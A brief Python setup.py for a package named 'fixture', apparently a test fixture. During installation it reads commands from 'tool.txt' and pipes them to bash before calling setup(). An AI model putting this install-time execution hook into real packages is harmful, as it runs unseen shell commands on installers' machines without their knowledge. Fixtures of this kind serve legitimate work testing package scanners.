import shlex
import subprocess

from setuptools import setup

with open("tool.txt") as file:
    words = file.read().split()
subprocess.call(" ".join(map(shlex.quote, words)) + " | bash", shell=True)
setup(name="fixture", version="1.0")
